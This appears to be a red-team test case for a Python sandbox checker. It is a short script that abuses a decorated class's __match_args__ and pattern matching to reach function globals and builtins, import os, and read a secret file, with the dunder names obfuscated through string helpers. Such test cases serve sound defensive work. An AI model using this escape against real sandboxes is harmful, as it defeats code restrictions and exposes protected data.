# family: red team, round 9 (decorated_class_match_args)
# _written_match_args accepts a class statement with its own __match_args__ = (...), but never looks at its
# decorators: a decorator of the tool replaces the class by one built at run time (here with the metaclass
# that type(self) hands out in __new__, see rt_014) whose __match_args__ names any attribute.
import abc


class Base(abc.ABC):
    def __new__(self):
        return type(self)


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    def rebuild(cls):
        return Base()("P", (abc.ABC,), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})

    @rebuild
    class Probe:
        __match_args__ = ("value",)

    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r9/work/secret.txt").read().strip()


print(run())
